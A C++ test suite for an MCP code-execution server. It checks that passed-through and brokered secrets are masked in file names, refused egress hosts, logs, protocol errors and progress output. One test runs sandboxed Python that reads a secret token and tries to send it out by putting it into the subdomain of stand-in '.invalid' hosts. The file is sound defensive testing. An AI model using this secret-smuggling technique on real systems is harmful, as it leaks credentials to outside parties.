// Pass-through secrets (--pass-through-env) never leave the server: not in file names the
// caps left out, not in host names the egress proxy refused (which it lowercases), not in the
// audit log, not in error messages; in no case-folded form either (issue 36, item 6).

#include <stdlib.h>
#include <unistd.h>

#include <algorithm>
#include <cctype>
#include <string>
#include <vector>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "support/harness.h"
#include "support/mcp_process.h"
#include "support/temp_folder.h"

namespace paddock::testing::secret_mask_test {
namespace {

using json = nlohmann::json;

constexpr const char* kSecret = "PaddockSeCrEt7Q";

std::string lowered(std::string text) {
  std::transform(text.begin(), text.end(), text.begin(),
                 [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  return text;
}

// Where the secret shows in `text`, in any case; empty when it does not.
std::string leak_in(const std::string& text) {
  auto at = lowered(text).find(lowered(kSecret));
  if (at == std::string::npos) return "";
  return text.substr(at >= 80 ? at - 80 : 0, 200);
}

TEST(SecretMask, NoFormOfAPassedThroughSecretLeavesTheServer) {
  TempFolder folder("secret-mask");
  std::string audit = folder / "audit.jsonl";
  setenv("MASK_TEST_TOKEN", kSecret, 1);
  McpProcess server({"--pass-through-env", "MASK_TEST_TOKEN", "--artifact-limit", "1",
                     "--allow-host", "allowed.invalid", "--audit-log", audit});
  unsetenv("MASK_TEST_TOKEN");
  std::vector<json> seen;

  // A file name the artifact cap leaves out, and a refused host whose subdomain is the secret.
  server.call(1, "execute_code",
              {{"code",
                "import os, time, urllib.request\n"
                "token = os.environ['MASK_TEST_TOKEN']\n"
                "os.makedirs('outputs', exist_ok=True)\n"
                "open('outputs/first.txt', 'w').write('kept')\n"
                "time.sleep(0.05)\n"
                "open('outputs/report-' + token + '.txt', 'w').write('left out')\n"
                "for url in ('http://' + token + '.refused.invalid/',\n"
                "            'https://api.' + token + '.invalid/'):\n"
                "    try:\n"
                "        urllib.request.urlopen(url, timeout=10)\n"
                "    except Exception as e:\n"
                "        pass\n"
                "print('done')\n"}});
  json run = server.wait_for(1);
  seen.push_back(run);
  ASSERT_TRUE(run.contains("result")) << run.dump();
  const json& structured = run["result"]["structuredContent"];
  EXPECT_EQ(structured.value("stdout", ""), "done\n") << run.dump();
  // The attack's own evidence: the names and hosts are there, masked.
  EXPECT_EQ(structured.value("artifacts_omitted_count", 0), 1) << run.dump();
  ASSERT_TRUE(structured.contains("network")) << run.dump();
  EXPECT_EQ(structured["network"]["denied"].size(), 2u) << run.dump();

  // An error message naming a path the model chose from what it saw.
  json created;
  std::string session = server.open_session(2, json::object(), &created);
  seen.push_back(created);
  ASSERT_FALSE(session.empty()) << created.dump();
  server.call(3, "execute_code",
              {{"session_id", session},
               {"code",
                "import os\n"
                "os.makedirs(os.environ['MASK_TEST_TOKEN'].upper())\n"
                "print(sorted(os.listdir('.')))\n"}});
  seen.push_back(server.wait_for(3));
  server.call(4, "read_file",
              {{"session_id", session}, {"path", std::string("missing/") + kSecret + "/file.txt"}});
  json missing = server.wait_for(4);
  seen.push_back(missing);
  EXPECT_TRUE(McpProcess::is_tool_error(missing)) << missing.dump();
  server.call(5, "list_files", {{"session_id", session}});
  seen.push_back(server.wait_for(5));
  server.request(6, "resources/list");
  seen.push_back(server.wait_for(6));
  server.call(7, "list_sessions", json::object());
  seen.push_back(server.wait_for(7));
  // Progress: the program's lines as it prints them, in every case.
  server.call(8, "execute_code",
              {{"session_id", session},
               {"code",
                "import os, time\n"
                "token = os.environ['MASK_TEST_TOKEN']\n"
                "for form in (token, token.lower(), token.upper()):\n"
                "    print('progress', form, flush=True)\n"
                "    time.sleep(0.3)\n"}},
              {{"progressToken", 8}});
  seen.push_back(server.wait_for(8));
  std::size_t progress = 0;
  for (const auto& message : server.notifications()) {
    seen.push_back(message);
    if (message.value("method", "") == "notifications/progress") ++progress;
  }
  EXPECT_GT(progress, 0u);

  for (const auto& message : seen) {
    EXPECT_EQ(leak_in(message.dump()), "") << message.dump().substr(0, 2000);
  }
  server.close_input();
  EXPECT_EQ(server.wait_exit(std::chrono::seconds(30)), 0);
  std::string logged = read_file(audit);
  EXPECT_NE(logged.find("\"network\""), std::string::npos) << logged;
  EXPECT_EQ(leak_in(logged), "") << logged;
}

// The server's own log (stderr) and JSON-RPC errors, which echo what the client sent: a name the
// model made from a secret it saw comes back masked in both.
TEST(SecretMask, TheServersLogAndProtocolErrorsCarryNoFormOfIt) {
  setenv("MASK_TEST_TOKEN", kSecret, 1);
  std::string secret_lower = lowered(kSecret);
  std::string requests =
      json({{"jsonrpc", "2.0"},
            {"id", 1},
            {"method", "tools/call"},
            {"params", {{"name", secret_lower + "-tool"}, {"arguments", json::object()}}}})
          .dump() +
      "\n" +
      json({{"jsonrpc", "2.0"}, {"id", 2}, {"method", std::string(kSecret) + "/method"}}).dump() +
      "\n";
  CliResult served =
      run_cli({"mcp", "--log-level", "debug", "--pass-through-env", "MASK_TEST_TOKEN"}, requests);
  unsetenv("MASK_TEST_TOKEN");
  EXPECT_EQ(served.exit_status, 0) << served.err;
  EXPECT_NE(served.out.find("unknown tool '***-tool'"), std::string::npos) << served.out;
  EXPECT_NE(served.err.find("unknown method '***/method'"), std::string::npos) << served.err;
  EXPECT_EQ(leak_in(served.out), "") << served.out;
  EXPECT_EQ(leak_in(served.err), "") << served.err;
}

// A brokered secret's value (--secret) is masked in the server's log as it is in results and the
// audit log: one mask everywhere. The value reaches the log as a name the model made from an echo
// of it; before, the log's mask held --pass-through-env alone and let it through (issue 49, 12).
TEST(SecretMask, TheServersLogMasksABrokeredValueToo) {
  setenv("MASK_TEST_BROKERED", kSecret, 1);
  std::string requests =
      json({{"jsonrpc", "2.0"}, {"id", 1}, {"method", lowered(kSecret) + "/method"}}).dump() +
      "\n" + json({{"jsonrpc", "2.0"}, {"id", 2}, {"method", std::string(kSecret) + "/x"}}).dump() +
      "\n";
  CliResult served = run_cli({"mcp", "--log-level", "debug", "--warm", "0", "--secret",
                              "TOKEN=MASK_TEST_BROKERED@localhost:8443"},
                             requests);
  unsetenv("MASK_TEST_BROKERED");
  EXPECT_EQ(served.exit_status, 0) << served.err;
  // The attack's evidence: the names reached the log, masked.
  EXPECT_NE(served.err.find("unknown method '***/method'"), std::string::npos) << served.err;
  EXPECT_NE(served.err.find("unknown method '***/x'"), std::string::npos) << served.err;
  EXPECT_EQ(leak_in(served.err), "") << served.err;
  EXPECT_EQ(leak_in(served.out), "") << served.out;
}

// A brokered value shorter than the mask's shortest is refused at start, in one line naming the
// variable, by `paddock mcp` and `paddock run` alike: no mask would hide it if a host echoed it.
TEST(SecretMask, ABrokeredValueTooShortToMaskIsRefusedAtStart) {
  setenv("MASK_TEST_SHORT", "abc", 1);
  CliResult served =
      run_cli({"mcp", "--warm", "0", "--secret", "TOKEN=MASK_TEST_SHORT@localhost:8443"}, "");
  CliResult ran =
      run_cli({"run", "--secret", "TOKEN=MASK_TEST_SHORT@localhost:8443", "--", "/bin/true"});
  unsetenv("MASK_TEST_SHORT");
  for (const CliResult* result : {&served, &ran}) {
    EXPECT_NE(result->exit_status, 0) << result->err;
    EXPECT_NE(result->err.find("MASK_TEST_SHORT, whose value is 3 characters long; a brokered "
                               "secret needs 4 at least"),
              std::string::npos)
        << result->err;
    EXPECT_EQ(std::count(result->err.begin(), result->err.end(), '\n'), 1) << result->err;
    EXPECT_EQ(result->err.find("abc"), std::string::npos) << result->err;
  }
}

}  // namespace
}  // namespace paddock::testing::secret_mask_test
